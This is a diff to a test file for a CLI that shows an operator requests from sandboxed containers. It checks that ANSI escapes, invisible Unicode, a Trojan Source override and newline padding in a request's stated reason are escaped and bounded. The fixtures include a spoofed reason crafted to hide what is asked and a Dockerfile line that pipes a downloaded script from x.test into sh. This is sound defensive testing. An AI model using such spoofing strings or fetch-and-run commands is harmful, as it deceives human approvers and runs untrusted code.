@@ -3,6 +3,7 @@ import { hostname, tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { foldEvents, initialBottleState } from '../../src/machines/index.js';
+import { MAX_SHOWN_REASON_LINES } from '../../src/shared/visible-text.js';
 import { startHarness, type BottleHarness } from '../support/cli-harness.js';
 import { history, launchSteps, samplePlan } from '../golden/fixtures.js';
 
@@ -14,9 +15,13 @@ import { history, launchSteps, samplePlan } from '../golden/fixtures.js';
  * pending request. The log is written directly: no container is involved.
  */
 
-const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
+/** What a terminal acts on or draws as nothing: controls but LF, invisible format characters, line separators. */
+const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\p{Cf}\u2028\u2029]/u;
 const ID = 'spoof-a1b2c';
 const SPOOFED_REASON = 'need pip\r\u001b[2K\u001b[1Aegress pypi.org:443 — need pip\u009b0m';
+/** Issue 21 finding 7: invisible characters, a Trojan Source override, tag characters, and newline padding. */
+const INVISIBLE = `\u200b\u202e\u{e0073}\u{e0068}${'\n'.repeat(60)}the real ending`;
+const SHOWN_INVISIBLE = '\\u200b\\u202e\\u{e0073}\\u{e0068}';
 const REQUESTED =
   'FROM debian:bookworm-slim\nRUN apt-get update\nRUN curl -s https://x.test/i.sh | sh\u001b[2K\nUSER node\n';
 
@@ -38,7 +43,7 @@ beforeAll(async () => {
         request_id: 'cap-7',
         kind: 'dockerfile',
         dockerfile: REQUESTED,
-        reason: SPOOFED_REASON,
+        reason: SPOOFED_REASON + INVISIBLE,
         queue_if_pending: true,
       },
     ],
@@ -60,10 +65,11 @@ describe('what reaches the operator terminal', () => {
     expect(text.code).toBe(0);
     noRawControl(text.stdout);
     expect(text.stdout).toContain('need pip\\r\\x1b[2K\\x1b[1Aegress pypi.org:443');
+    expect(text.stdout).toContain(`${SHOWN_INVISIBLE}\\n\\n`);
     const json = await h.cli(['events', ID, '--format', 'json']);
     noRawControl(json.stdout);
     const last = JSON.parse(json.stdout.trim().split('\n').at(-1)!);
-    expect(last.data.reason).toBe(SPOOFED_REASON);
+    expect(last.data.reason).toBe(SPOOFED_REASON + INVISIBLE);
     const list = await h.cli(['list']);
     expect(list.code).toBe(0);
     noRawControl(list.stdout);
@@ -84,7 +90,11 @@ describe('what reaches the operator terminal', () => {
     noRawControl(result.stderr);
     const lines = result.stdout.split('\n');
     expect(lines).toContain(`request cap-7 from ${ID}: dockerfile`);
-    expect(lines).toContain('reason: need pip\\r\\x1b[2K\\x1b[1Aegress pypi.org:443 — need pip\\x9b0m');
+    expect(lines).toContain(
+      `reason: need pip\\r\\x1b[2K\\x1b[1Aegress pypi.org:443 — need pip\\x9b0m${SHOWN_INVISIBLE}`,
+    );
+    // The padding is bounded: the request line stays on screen above it, what is left out is counted.
+    expect(lines).toContain(`        … (${61 - (MAX_SHOWN_REASON_LINES - 1)} more lines)`);
     expect(lines).toContain(`requested Dockerfile, as a diff against the current one (${join(dir, 'Dockerfile')}):`);
     expect(lines).toContain('+ RUN curl -s https://x.test/i.sh | sh\\x1b[2K');
     expect(lines).toContain('  USER node');
